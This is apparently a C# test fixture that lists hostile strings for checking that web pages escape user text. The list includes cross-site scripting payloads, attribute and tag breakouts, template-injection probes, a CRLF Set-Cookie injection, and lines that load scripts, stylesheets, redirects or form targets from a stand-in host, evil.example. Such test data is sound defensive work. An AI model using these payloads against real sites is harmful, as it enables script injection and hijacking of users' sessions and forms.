namespace Aviv.Api.Tests.Pages;

/// <summary>What somebody writes who hopes that a page takes it for more than text.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "\"}]}</script><script>alert(1)//",
        "<script src=//evil.example/a.js></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "x onclick=alert(1) y",
        "`onload=alert(1)`",
        "<!-- a --><b>b</b>",
        "<!--a",
        "--><b>bold</b>",
        "]]><b>bold</b>",
        "<![CDATA[ a ]]>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<iframe srcdoc='<b>a</b>'></iframe>",
        "<form action=//evil.example><input name=a>",
        "</main></body></html><p>after",
        "</textarea><textarea autofocus onfocus=alert(1)>",
        "</option></select><b>a",
        "<plaintext>a",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"javascript:alert(1)\">a</a>",
        "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;b&#62;a &amp;amp; b",
        "\\u003cscript\\u003ealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "@(7*7) {{7*7}} ${7*7} <%= 7 %>",
        "a\r\nSet-Cookie: a=b\r\n\r\n<b>c</b>",
        "abc\u202egnp.exe \ufeff<b>c</b>",
        "\ud835\udd4f\u2028<b>a</b>\uff1cscript\uff1e",
    ];
}
